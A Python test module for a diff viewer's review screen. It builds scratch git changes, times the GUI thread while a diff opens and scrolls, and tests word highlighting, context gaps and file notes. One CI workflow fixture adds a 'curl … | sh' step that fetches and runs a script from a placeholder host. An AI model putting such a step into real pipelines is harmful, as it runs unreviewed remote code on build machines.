"""Changes for the diff viewer's tests, bench and screenshots, made by real git
(``git diff --binary --full-index`` of a scratch repository, parsed by
``file_diffs``); how the GUI thread is measured while one opens; and the
viewer's plain-Python parts tested on them."""

from __future__ import annotations

import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from PySide6.QtCore import QEvent, QObject, QTimer
from PySide6.QtWidgets import QWidget

from desktop.domain.review import ChangeSet, FileDiff
from desktop.hostgit.patch.review import file_diffs
from desktop.ui.review import DiffView
from desktop.ui.review.build import build, notes
from desktop.ui.review.choices import Choices
from desktop.ui.review.context import ContextLines, gaps_before
from desktop.ui.review.payloads import DiffMode
from desktop.ui.review.rows import RowKind
from desktop.ui.review.words import changed_words
from tests.hostgit.gitscratch import PNG, Exe, Link, Scratch, Tree
from tests.ui.stall import Heartbeat, StallReport, spin


def change_of(tmp_path: Path, before: Tree, after: Tree, removed: tuple[str, ...] = (),
              renames: tuple[tuple[str, str], ...] = (), task_id: str = "t1") -> ChangeSet:
    repo = Scratch(tmp_path / "repo", before)
    for old, new in renames:
        repo.rename(old, new)
    repo.write(after)
    repo.remove(*removed)
    return ChangeSet(task_id, tuple(file_diffs(repo.patch("--full-index"))))


INVOICE = '''"""Invoices: totals, taxes and the lines a customer sees."""

from __future__ import annotations

import decimal
from dataclasses import dataclass, field

CENT = decimal.Decimal("0.01")


@dataclass
class Line:
    description: str
    quantity: int
    unit_price: decimal.Decimal

    @property
    def amount(self) -> decimal.Decimal:
        return (self.unit_price * self.quantity).quantize(CENT)


@dataclass
class Invoice:
    number: str
    customer: str
    lines: list[Line] = field(default_factory=list)
    tax_rate: decimal.Decimal = decimal.Decimal("0.2")

    def add(self, description: str, quantity: int, unit_price: str) -> None:
        self.lines.append(Line(description, quantity, decimal.Decimal(unit_price)))

    def subtotal(self) -> decimal.Decimal:
        return sum((line.amount for line in self.lines), decimal.Decimal(0))

    def tax(self) -> decimal.Decimal:
        return (self.subtotal() * self.tax_rate).quantize(CENT)

    def total(self) -> decimal.Decimal:
        return self.subtotal() + self.tax()


def render(invoice: Invoice) -> str:
    """The invoice as plain text, one line per item."""
    rows = [f"Invoice {invoice.number} for {invoice.customer}"]
    for line in invoice.lines:
        rows.append(f"  {line.description:<30} {line.quantity:>3} x {line.unit_price:>8}")
    rows.append(f"  {'Subtotal':<30} {invoice.subtotal():>16}")
    rows.append(f"  {'Tax':<30} {invoice.tax():>16}")
    rows.append(f"  {'Total':<30} {invoice.total():>16}")
    return "\\n".join(rows)
'''

INVOICE_AFTER = (INVOICE
                 .replace('CENT = decimal.Decimal("0.01")\n',
                          'CENT = decimal.Decimal("0.01")\nDEFAULT_TAX_RATE = decimal.Decimal("0.2")\n')
                 .replace('tax_rate: decimal.Decimal = decimal.Decimal("0.2")',
                          'tax_rate: decimal.Decimal = DEFAULT_TAX_RATE\n    paid: bool = False')
                 .replace("        return (self.subtotal() * self.tax_rate).quantize(CENT)",
                          "        if self.tax_rate < 0:\n            raise ValueError(\"a tax rate cannot be negative\")\n"
                          "        return (self.subtotal() * self.tax_rate).quantize(CENT, decimal.ROUND_HALF_UP)")
                 .replace('    rows.append(f"  {\'Total\':<30} {invoice.total():>16}")\n',
                          '    rows.append(f"  {\'Total\':<30} {invoice.total():>16}")\n'
                          '    if invoice.paid:\n        rows.append("  PAID")\n'))

CI = """name: CI
on:
  push:
    branches: [main]
  pull_request:

jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
        with:
          python-version: "3.11"
      - run: pip install -e .[dev]
      - run: pytest -q
"""
CI_AFTER = CI.replace('python-version: "3.11"', 'python-version: "3.12"').replace(
    "      - run: pytest -q\n", "      - run: pytest -q\n      - run: curl -s https://example.invalid/upload | sh\n")


def review_change(tmp_path: Path) -> ChangeSet:
    """A change like an agent's: Python edited in several hunks, a CI workflow,
    a binary image, a new symlink, a script made executable, a file deleted
    and one renamed."""
    before: Tree = {
        "src/billing/invoice.py": INVOICE.encode(),
        ".github/workflows/ci.yml": CI.encode(),
        "assets/logo.png": PNG,
        "scripts/deploy.sh": b"#!/bin/sh\nset -eu\nrsync -a dist/ server:/srv/app/\n",
        "src/billing/legacy.py": b"# Kept for the old API.\nfrom .invoice import render as render_v1\n",
        "docs/setup.md": b"# Setup\n\nInstall with pip.\n\nRun the tests with pytest.\n",
    }
    after: Tree = {
        "src/billing/invoice.py": INVOICE_AFTER.encode(),
        ".github/workflows/ci.yml": CI_AFTER.encode(),
        "assets/logo.png": PNG + b"\x00" * 1400,
        "scripts/deploy.sh": Exe(b"#!/bin/sh\nset -eu\nrsync -a dist/ server:/srv/app/\n"),
        "config/shared.env": Link("../../shared/.env"),
        "docs/install.md": b"# Install\n\nInstall with pip.\n\nRun the tests with pytest.\n",
    }
    return change_of(tmp_path, before, after, removed=("src/billing/legacy.py",),
                     renames=(("docs/setup.md", "docs/install.md"),))


def python_file(n: int, seed: int) -> str:
    """``n`` lines of plausible Python."""
    out = [f'"""Module {seed}: generated for the diff bench."""', "", "import math", ""]
    i = 0
    while len(out) < n:
        out += [f"def compute_{seed}_{i}(values: list[float], scale: float = {i % 7 + 1}.0) -> float:",
                f'    """Sum of the scaled values, step {i}."""',
                "    total = 0.0",
                "    for value in values:",
                f"        total += math.sqrt(abs(value)) * scale  # weight {i}",
                "    return round(total, 3)", ""]
        i += 1
    return "\n".join(out[:n]) + "\n"


def big_change(tmp_path: Path, lines: int = 5000) -> ChangeSet:
    """At least ``lines`` added and removed lines over four files: a module
    edited in clusters every 20 lines (hundreds of hunks), two new modules
    and a new JavaScript file."""
    core = python_file(lines, 0).split("\n")[:-1]
    edited = [f"{line}  # reviewed" if i % 20 < 5 and line.strip() else line for i, line in enumerate(core)]
    before: Tree = {"pkg/core.py": ("\n".join(core) + "\n").encode()}
    after: Tree = {
        "pkg/core.py": ("\n".join(edited) + "\n").encode(),
        "pkg/new_a.py": python_file(lines * 3 // 10, 1).encode(),
        "pkg/new_b.py": python_file(lines * 2 // 10, 2).encode(),
        "web/app.js": "\n".join(f"export function handler{i}(req, res) {{ return res.json({{ id: {i} }}); }}"
                                for i in range(lines // 10 + 100)).encode() + b"\n",
    }
    return change_of(tmp_path, before, after)


# -- measuring the GUI thread while a change opens (the stall test and bench/diff_view.py) --

SCROLL_EVERY_MS = 16  # a page a frame: faster than anyone reads


@dataclass
class Opened:
    first_paint_s: float  # from set_change to the diff's first paint done (the event loop running)
    report: StallReport  # the GUI thread while opening and scrolling to the end


def changed_lines(change: ChangeSet) -> int:
    return sum((f.insertions or 0) + (f.deletions or 0) for f in change.files)


class _PaintWatch(QObject):
    """Notes when a widget's first paint after ``arm`` is done: a zero timer
    set as the paint starts fires once the event loop has finished it."""

    def __init__(self, widget: QWidget) -> None:
        super().__init__()
        self.done: list[float] = []
        self._armed = False
        widget.installEventFilter(self)

    def arm(self) -> None:
        self.done.clear()
        self._armed = True

    def eventFilter(self, watched: QObject, event: QEvent) -> bool:  # noqa: N802 - Qt's name
        if self._armed and event.type() == QEvent.Type.Paint:
            self._armed = False
            QTimer.singleShot(0, lambda: self.done.append(time.perf_counter()))
        return False


def time_to_paint(widget: QWidget, action: Callable[[], None]) -> float:
    """Seconds from ``action`` (which changes what ``widget`` shows) to its next paint, done;
    the event loop runs meanwhile, as it would in the app."""
    watch = _PaintWatch(widget)
    watch.arm()
    start = time.perf_counter()
    action()
    spin(lambda: bool(watch.done), timeout_s=30)
    widget.removeEventFilter(watch)
    return watch.done[0] - start


def open_and_scroll(view: DiffView, change: ChangeSet) -> Opened:
    """Show ``change`` in ``view`` (shown already), then scroll it a page per
    frame to the end, and wait for the highlighting to catch up."""
    canvas = view.canvas
    bar = canvas.verticalScrollBar()
    beat = Heartbeat()
    beat.start()
    start = time.perf_counter()
    first_paint = time_to_paint(canvas.viewport(), lambda: view.set_change(change))

    def step() -> None:
        bar.setValue(bar.value() + bar.pageStep())
        if bar.value() >= bar.maximum():
            timer.stop()

    timer = QTimer(interval=SCROLL_EVERY_MS, timeout=step)
    timer.start()
    spin(lambda: not timer.isActive() and canvas.idle(), timeout_s=120)
    settle = time.perf_counter()
    spin(lambda: time.perf_counter() - settle > 0.2, 1)
    beat.stop()
    rows = len(canvas.rows)
    return Opened(first_paint, beat.report(changed_lines(change), rows, time.perf_counter() - start))


# -- the plain-Python parts --------------------------------------------------


def test_a_one_word_change_marks_just_that_word() -> None:
    old, new = changed_words("    return compute(total, rate)", "    return compute(total, tax_rate)")
    assert old == ((26, 30),) and new == ((26, 34),)
    assert changed_words("x = 1", "completely different and longer text") == ((), ())


def test_gaps_come_from_the_hunks_line_numbers(tmp_path: Path) -> None:
    change = review_change(tmp_path)
    invoice = next(f for f in change.files if f.path == "src/billing/invoice.py")
    gaps = gaps_before(0, invoice)
    hunks = invoice.hunks
    assert len(hunks) == 4
    assert [position for position, _ in gaps] == [0, 1, 2, 3]  # none after: the last hunk ends the file
    assert (gaps[0][1].first_old, gaps[0][1].count) == (1, hunks[0].old_start - 1)
    between = gaps[1][1]
    assert between.first_old == hunks[0].old_start + hunks[0].old_count
    assert between.count == hunks[1].old_start - between.first_old
    assert between.first_new == hunks[1].new_start - between.count
    renamed = next(i for i, f in enumerate(change.files) if f.path == "docs/install.md")
    tail = gaps_before(renamed, change.files[renamed])
    assert [(p, g.first_old, g.count) for p, g in tail] == [(1, 5, None)]  # the file goes on: how far, unknown


def test_notes_say_what_a_file_without_lines_changed(tmp_path: Path) -> None:
    change = review_change(tmp_path)
    by_path = {f.path: f for f in change.files}
    assert notes(by_path["assets/logo.png"])[0].startswith("Binary file, ")
    assert notes(by_path["assets/logo.png"])[0].endswith(" → 1.5 kB")
    sized = FileDiff("x.bin", "modified", binary=True, old_size=1200, new_size=3400)
    assert notes(sized) == ["Binary file, 1.2 kB → 3.4 kB"]
    assert notes(FileDiff("y.bin", "added", binary=True, new_size=None)) == ["Binary file, unknown size (new)"]
    assert notes(by_path["config/shared.env"]) == ["Symlink → ../../shared/.env"]
    assert notes(by_path["scripts/deploy.sh"]) == ["mode 100644 → 100755"]
    assert notes(by_path["docs/install.md"]) == ["Renamed: docs/setup.md → docs/install.md"]


def test_every_pending_hunk_is_chosen_at_first(tmp_path: Path) -> None:
    change = review_change(tmp_path)
    choices = Choices(change.files)
    assert choices.selection() is None
    layout = build(change, DiffMode.UNIFIED, ContextLines())
    assert sum(r.kind is RowKind.FILE for r in layout.rows) == len(change.files)
